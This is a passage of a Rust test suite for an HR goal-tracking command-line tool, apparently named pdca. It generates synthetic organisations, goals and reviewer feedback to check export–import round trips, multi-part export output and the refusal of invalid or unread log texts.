        prop::collection::vec((note(), note(), prop::option::of(0u64..400), any::<bool>(), any::<bool>()), 0..3),
        prop::collection::vec((prop::option::of(level()), note(), note(), note(), prop::option::of(0u64..400)), 0..3),
        any::<bool>(),
    );
    (plan, rest).prop_map(
        |(
            (owner, parent, adopted, title, description, criteria, progress, metric, weight),
            (due, difficulty, category, check, actions, reviews, carried),
        )| GoalSpec {
            owner,
            parent,
            adopted,
            title,
            description,
            criteria,
            progress,
            metric,
            weight,
            due,
            difficulty,
            category,
            check,
            actions,
            reviews,
            carried,
        },
    )
}

fn open_spec() -> impl Strategy<Value = OpenSpec> {
    (
        any::<prop::sample::Index>(),
        any::<prop::sample::Index>(),
        title(),
        note(),
        prop::option::of(0.0f64..10.0),
        prop::option::weighted(0.3, note()),
    )
        .prop_map(|(parent, to, title, note, share, declined)| OpenSpec {
            parent,
            to,
            title,
            note,
            share,
            declined,
        })
}

fn day(offset: u64) -> Date {
    Date(chrono::NaiveDate::from_ymd_opt(2026, 4, 1).unwrap() + chrono::Days::new(offset))
}

fn at(minutes: u64) -> Timestamp {
    let start = chrono::DateTime::parse_from_rfc3339("2026-04-10T09:00:00+09:00").unwrap();
    Timestamp(start + chrono::Duration::minutes(minutes as i64))
}

/// A valid data set of one cycle: units in a tree, people with reviewers above them,
/// goals in a forest with adopted, pending and declined proposals, metrics, self-checks,
/// action items, the reviewers' feedback and workflow steps.
fn data_set() -> impl Strategy<Value = (DataSetInfo, Org, CycleData)> {
    (
        prop::collection::vec((any::<prop::sample::Index>(), text(1..10), prop::bool::weighted(0.5)), 1..5),
        prop::collection::vec(person_spec(), 1..7),
        prop::collection::vec(goal_spec(), 0..12),
        prop::collection::vec(open_spec(), 0..4),
        text(0..10),
        prop::option::weighted(0.3, (1.0f64..9.0, 0.5f64..2.0)),
    )
        .prop_map(|(unit_specs, people_specs, goal_specs, open_specs, organisation, formula)| {
            build(unit_specs, people_specs, goal_specs, open_specs, organisation, formula)
        })
}

fn build(
    unit_specs: Vec<(prop::sample::Index, String, bool)>,
    people_specs: Vec<PersonSpec>,
    goal_specs: Vec<GoalSpec>,
    open_specs: Vec<OpenSpec>,
    organisation: String,
    formula: Option<(f64, f64)>,
) -> (DataSetInfo, Org, CycleData) {
    let mut org = Org::default();
    let mut depth: Vec<usize> = Vec::new();
    for (index, (parent, name, _)) in unit_specs.iter().enumerate() {
        let parent = (index > 0).then(|| {
            let mut parent = parent.index(index);
            if depth[parent] == 2 {
                parent = org.units[parent].parent.as_ref().unwrap()[1..].parse().unwrap();
            }
            parent
        });
        depth.push(parent.map_or(0, |p| depth[p] + 1));
        org.units.push(Unit {
            id: format!("u{index}"),
            name: name.clone(),
            kind: [UnitKind::Department, UnitKind::Section, UnitKind::Team][depth[index]],
            parent: parent.map(|p| format!("u{p}")),
            head: None,
            extra: Extra::new(),
        });
    }
    for (index, spec) in people_specs.iter().enumerate() {
        org.people.push(Person {
            id: format!("P{index}").into(),
            name: spec.name.clone(),
            kana: spec.kana.clone(),
            unit: format!("u{}", spec.unit.index(org.units.len())),
            grade: spec.grade,
            title: spec.title.clone(),
            job_type: None,
            competency_group: None,
            reviewer: spec.reviewer.filter(|_| index > 0).map(|r| format!("P{}", r.index(index)).into()),
            second_reviewer: None,
            login: (index % 2 == 0).then(|| format!("user{index}")),
            roles: if spec.hr { vec!["hr".to_owned()] } else { Vec::new() },
            mentor: None,
            extra: Extra::new(),
        });
    }
    for (index, (_, _, has_head)) in unit_specs.iter().enumerate() {
        if *has_head {
            org.units[index].head = Some(format!("P{}", index % org.people.len()).into());
        }
    }

    let cycle = Cycle {
        id: "C1".into(),
        name: Some("令和8年度 \"試行\"".into()),
        start: day(0),
        end: day(364),
        phases: pdca::hr::cycle::default_phases(day(0), day(364)),
        extra: Extra::new(),
    };
    let people = org.people.len();
    let mut files: Vec<GoalsFile> = (0..people).map(|p| GoalsFile::new(&format!("P{p}"), "C1")).collect();
    let mut feedback: HashMap<String, FeedbackFile> = HashMap::default();
    let mut owners: Vec<usize> = Vec::new();
    for (index, spec) in goal_specs.iter().enumerate() {
        let owner = spec.owner.index(people);
        let parent = spec.parent.filter(|_| index > 0).map(|p| p.index(index));
        let id = pdca::model::GoalId::from(format!("P{owner}-C1-{index}"));
        let mut goal = Goal {
            id: id.clone(),
            title: spec.title.clone(),
            criteria: spec.criteria.clone(),
            due: spec.due.map(day),
            difficulty: spec.difficulty,
            weight: spec.weight,
            category: spec.category,
            parent: parent.map(|p| format!("P{}-C1-{p}", owners[p]).into()),
            progress: spec.progress,
            metric: spec
                .metric
                .clone()
                .map(|(unit, start, target, current)| Box::new(Metric::typed(&unit, start, target, current))),
            check: spec.check.clone().map(|(level, comment)| {
                Box::new(SelfCheck { level, comment: comment.into(), date: Some(day(300)), extra: Extra::new() })
            }),
            actions: spec
                .actions
                .iter()
                .map(|(issue, measure, due, done, carried)| ActionItem {
                    issue: issue.clone(),
                    measure: measure.clone(),
                    due: due.map(day),
                    done: *done,
                    carried_from: carried.then(|| "C0/P0-C0-1".to_owned()),
                    extra: Extra::new(),
                })
                .collect(),
            detail: GoalDetail {
                description: spec.description.clone(),
                plan: spec.description.chars().rev().collect(),
                carried_from: spec.carried.then(|| format!("C0/P{owner}-C0-9")),
                ..GoalDetail::default()
            }
            .into(),
            ..Goal::default()
        };
        if let (Some(parent), Some(share)) = (parent, spec.adopted) {
            let proposal = pdca::model::ProposalId::from(format!("A{index}"));
            files[owners[parent]].proposals.push(Proposal {
                id: proposal.clone(),
                parent: goal.parent.clone().unwrap(),
                to: format!("P{owner}").into(),
                title: spec.title.clone(),
                note: String::new(),
                share,
                date: Some(day(10)),
                extra: Extra::new(),
            });
            goal.proposal = Some(proposal);
        }
        if let Some(reviewer) = &org.people[owner].reviewer {
            let file = feedback.entry(reviewer.to_string()).or_insert_with(|| FeedbackFile::new(reviewer, "C1"));
            for (level, strengths, improvements, contribution, date) in &spec.reviews {
                file.feedback.push(Feedback {
                    person: format!("P{owner}").into(),
                    goal: Some(id.clone()),
                    level: *level,
                    strengths: strengths.clone(),
                    notes: pdca::model::FeedbackNotes {
                        improvements: improvements.clone(),
                        contribution: contribution.clone(),
                        comment: "面談メモ".into(),
                    }
                    .into(),
                    date: date.map(day),
                    shared: true,
                    extra: Extra::new(),
                });
            }
        }
        files[owner].goals.push(goal);
        owners.push(owner);
    }
    if !owners.is_empty() {
        for (index, spec) in open_specs.iter().enumerate() {
            let parent = spec.parent.index(owners.len());
            let to = spec.to.index(people);
            let id = pdca::model::ProposalId::from(format!("O{index}"));
            files[owners[parent]].proposals.push(Proposal {
                id: id.clone(),
                parent: format!("P{}-C1-{parent}", owners[parent]).into(),
                to: format!("P{to}").into(),
                title: spec.title.clone(),
                note: spec.note.clone(),
                share: spec.share,
                date: None,
                extra: Extra::new(),
            });
            if let Some(reason) = &spec.declined {
                files[to].declined.push(Decline {
                    proposal: id,
                    reason: reason.clone(),
                    date: None,
                    extra: Extra::new(),
                });
            }
        }
    }
    // The workflow's happy path, as far as each person got, with a send-back on the way.
    let mut clock = 0;
    for (index, spec) in people_specs.iter().enumerate() {
        let person = format!("P{index}");
        let Some(reviewer) = org.people[index].reviewer else { continue };
        let confirmer = org.people.iter().find(|p| p.id == reviewer).and_then(|r| r.reviewer).unwrap_or(reviewer);
        let plan: Vec<PlannedGoal> = files[index].goals.iter().map(PlannedGoal::of).collect();
        let steps = [
            (Step::Submit, person.clone()),
            (Step::SendBack, reviewer.to_string()),
            (Step::Submit, person.clone()),
            (Step::Approve, reviewer.to_string()),
            (Step::SelfCheck, person.clone()),
            (Step::Review, reviewer.to_string()),
            (Step::Confirm, confirmer.into()),
            (Step::FeedbackHeld, reviewer.to_string()),
        ];
        for (step, by) in steps.into_iter().take(spec.steps + 2) {
            clock += 7;
            let record = SheetRecord {
                person: None,
                step,
                by: by.as_str().into(),
                at: at(clock),
                comment: if step == Step::SendBack { "再提出を\n\"お願い\"".into() } else { String::new() },
                plan: if step == Step::Approve { plan.clone() } else { Vec::new() }.into(),
                confirmed: None,
                extra: Extra::new(),
            };
            if matches!(step, Step::Submit | Step::SelfCheck) {
                files[index].sheet.push(record);
            } else {
                let file = feedback.entry(by.clone()).or_insert_with(|| FeedbackFile::new(&by, "C1"));
                file.sheet.push(SheetRecord { person: Some(person.as_str().into()), ..record });
            }
        }
    }
    let mut feedback: Vec<FeedbackFile> = feedback.into_values().collect();
    feedback.sort_by_key(|a| a.reviewer);
    files.retain(|file| {
        !file.goals.is_empty() || !file.proposals.is_empty() || !file.declined.is_empty() || !file.sheet.is_empty()
    });
    let info = DataSetInfo {
        schema_version: SCHEMA_VERSION,
        organisation,
        current_cycle: "C1".into(),
        identity: None,
        score: formula.map(|(s, high)| {
            let mut formula = ScoreFormula::default();
            formula.points.s = s;
            formula.difficulty.high = high;
            formula
        }),
        calibration: None,
        recency: None,
        engagement: None,
        extra: Extra::new(),
    };
    let data = CycleData {
        cycle,
        goals: files,
        feedback,
        competencies: None,
        calibration: Vec::new(),
        instruments: Default::default(),
    };
    (info, org, data)
}

/// The export of a data set on disk, as the command would write it.
fn export_text(store: &Store) -> String {
    let snapshot = store.load(None).unwrap();
    assert!(snapshot.problems.is_empty(), "{:?}", snapshot.problems);
    let generated_at = Timestamp(chrono::DateTime::parse_from_rfc3339(EXPORT_TIME).unwrap());
    let options = Options { generated_at, unit: None };
    export::build(&snapshot.info, &snapshot.org, &snapshot.data, options).unwrap().to_toml().unwrap()
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 48, ..ProptestConfig::default() })]

    /// export → import → export gives the same bytes, and the rebuilt data set is valid.
    #[test]
    fn export_import_export_is_byte_identical((info, org, data) in data_set()) {
        let errors = validity::errors(&org, &data, &HashMap::default());
        prop_assert!(errors.is_empty(), "the generator made invalid data: {errors:?}");
        let dir = tempfile::tempdir().unwrap();
        let original = Store::new(dir.path().join("original"));
        original.create_data_set(&info, &org, &data).unwrap();
        let first = export_text(&original);

        let parsed: Export = toml::from_str(&first).unwrap();
        let rebuilt = import::rebuild(&parsed).unwrap();
        prop_assert!(rebuilt.notes.is_empty(), "{:?}", rebuilt.notes);
        let errors = validity::errors(&rebuilt.org, &rebuilt.data, &HashMap::default());
        prop_assert!(errors.is_empty(), "the import made invalid data: {errors:?}");
        let copy = Store::new(dir.path().join("copy"));
        copy.create_data_set(&rebuilt.info, &rebuilt.org, &rebuilt.data).unwrap();
        let second = export_text(&copy);
        prop_assert_eq!(&first, &second);

        // What the export holds came back as it was.
        let back = copy.load(None).unwrap();
        let by_id = |people: &[Person]| {
            let mut people = people.to_vec();
            people.sort_by_key(|a| a.id);
            people
        };
        prop_assert_eq!(by_id(&back.org.people), by_id(&org.people));
        prop_assert_eq!(&back.org.units.len(), &org.units.len());
        let goals = |data: &CycleData| {
            let mut goals: Vec<(String, String, String, Option<u32>)> = data
                .goals
                .iter()
                .flat_map(|f| &f.goals)
                .map(|g| (g.id.to_string(), g.title.clone(), g.detail.get().unwrap().description.clone(), g.weight))
                .collect();
            goals.sort();
            goals
        };
        prop_assert_eq!(goals(&back.data), goals(&data));

        // The CSV of it parses back to the export's rows.
        let bytes = table::to_csv(&parsed, Lang::Ja, Cells::SpreadsheetSafe);
        let (header, rows) = parse_csv(&bytes);
        prop_assert_eq!(header, table::header(Lang::Ja));
        prop_assert_eq!(rows, table::rows(&parsed, Lang::Ja, Cells::SpreadsheetSafe));
    }
}

/// `pdca export` writes an export of several parts as it makes them: to standard
/// output and to `-o` the bytes are those of the whole export built at once, and
/// the message counts the people and goals of every part.
#[test]
fn pdca_export_of_several_parts_writes_the_whole_export_and_counts_it() {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("city");
    let people = (2 * export::PEOPLE_PER_PART + 10).to_string();
    let made = pdca(&data).args(["gen", "--people", &people, "--out"]).arg(&data).output().unwrap();
    assert!(made.status.success(), "{}", String::from_utf8_lossy(&made.stderr));
    let said = String::from_utf8(made.stdout).unwrap();
    let hr = said.lines().find_map(|line| line.strip_prefix("hr: ")?.split(' ').next()).unwrap().to_owned();
    let snapshot = Store::new(&data).load(None).unwrap();
    let generated_at = Timestamp(chrono::DateTime::parse_from_rfc3339(EXPORT_TIME).unwrap());
    let whole =
        export::build(&snapshot.info, &snapshot.org, &snapshot.data, Options { generated_at, unit: None }).unwrap();
    assert!(whole.people.len() > 2 * export::PEOPLE_PER_PART, "three parts of people at least");
    let to_stdout = pdca(&data).args(["--as", &hr, "export"]).output().unwrap();
    assert!(to_stdout.status.success(), "{}", String::from_utf8_lossy(&to_stdout.stderr));
    assert_eq!(String::from_utf8(to_stdout.stdout).unwrap(), whole.to_toml().unwrap());
    let file = dir.path().join("export.toml");
    let to_file = pdca(&data).args(["--as", &hr, "export", "-o"]).arg(&file).output().unwrap();
    assert!(to_file.status.success(), "{}", String::from_utf8_lossy(&to_file.stderr));
    assert_eq!(fs::read_to_string(&file).unwrap(), whole.to_toml().unwrap());
    let counted = format!("{} people, {} goals", whole.people.len(), whole.goal_count());
    assert!(String::from_utf8_lossy(&to_file.stderr).contains(&counted), "{to_file:?} should say {counted}");
}

#[test]
fn data_loaded_with_texts_left_on_disk_is_never_exported() {
    // The app's loads leave others' texts on disk; an export is made from files read whole.
    let (_dir, data) = sample();
    let snapshot = Store::new(&data).leaving_texts_on_disk().load(None).unwrap();
    let generated_at = Timestamp(chrono::DateTime::parse_from_rfc3339(EXPORT_TIME).unwrap());
    let options = Options { generated_at, unit: None };
    let refused = export::prepare(&snapshot.info, &snapshot.org, &snapshot.data, options).err();
    assert!(matches!(refused, Some(export::ExportError::TextsNotRead(_))), "{refused:?}");
    let whole = Store::new(&data).reading_texts().load(None).unwrap();
    assert!(export::prepare(&whole.info, &whole.org, &whole.data, options).is_ok());
}

/// An export reads every text but the Do logs without training, which it never
/// writes: the same export, the same errors, from less.
#[test]
fn an_export_leaves_on_disk_only_the_do_logs_it_never_writes() {
    use pdca::model::HeldTexts;
    let (_dir, data) = sample();
    let whole = Store::new(&data).reading_texts().load(None).unwrap();
    let read = Store::new(&data).reading_for_export().load(None).unwrap();
    let plain_logs = read.data.goals.iter().flat_map(|file| &file.goals).filter(|goal| goal.log.get().is_err());
    assert!(plain_logs.count() > 0, "the sample has Do logs to leave");
    for (file, whole_file) in read.data.goals.iter().zip(&whole.data.goals) {
        assert!(!file.holds_more_than_logs_on_disk(), "{}: every other text is read", file.owner);
        for (goal, whole_goal) in file.goals.iter().zip(&whole_file.goals) {
            let log = whole_goal.log.get().unwrap();
            let training = log.iter().any(|entry| entry.course.is_some() || entry.completed);
            let kept = training || log.is_empty();
            assert_eq!(goal.log.get().is_ok(), kept, "{}: a log with training (or none) stays whole", goal.id);
        }
    }
    assert!(read.data.feedback.iter().all(|file| !file.holds_texts_on_disk()));
    let elsewhere = HashMap::default();
    assert_eq!(validity::errors(&read.org, &read.data, &elsewhere), vec![]);
    let generated_at = Timestamp(chrono::DateTime::parse_from_rfc3339(EXPORT_TIME).unwrap());
    let options = Options { generated_at, unit: None };
    let of = |loaded: &pdca::store::Snapshot| {
        export::build(&loaded.info, &loaded.org, &loaded.data, options).unwrap().to_toml().unwrap()
    };
    assert_eq!(of(&read), of(&whole));
}

/// A Do log that fails a check is read, not left on disk, and the export is
/// refused for it as for any other text: a control character, a text too long.
#[test]
fn a_do_log_failing_a_check_is_read_and_refused() {
    let long = "長".repeat(pdca::model::validate::TEXT_LIMIT + 1);
    for (text, said) in [("ベル\\u0007", "`log.text` contains control character U+0007"), (&long, "`log.text` is")] {
        let (_dir, data) = sample();
        let file = data.join("cycles/2026/goals/P0013.toml");
        let entry = format!("\n[[goals.log]]\ndate = 2026-06-01\nkind = \"practice\"\ntext = \"{text}\"\n");
        fs::OpenOptions::new().append(true).open(&file).unwrap().write_all(entry.as_bytes()).unwrap();
        pdca(&data)
            .args(["--as", HR, "export"])
            .assert()
            .code(1)
            .stdout("")
            .stderr(predicate::str::contains("P0013.toml"))
            .stderr(predicate::str::contains(said))
            .stderr(predicate::str::contains("refusing to export"));
        pdca(&data)
            .args(["--as", HR, "export", "--force"])
            .assert()
            .success()
            .stderr(predicate::str::contains(said))
            .stderr(predicate::str::contains("left out goal P0013-"));
        let snapshot = Store::new(&data).reading_for_export().load(None).unwrap();
        let p0013 = snapshot.data.goals.iter().find(|file| file.owner == "P0013").unwrap();
        assert!(p0013.goals.iter().all(|goal| goal.log.get().is_ok()), "its logs are read, to be reported");
    }
}
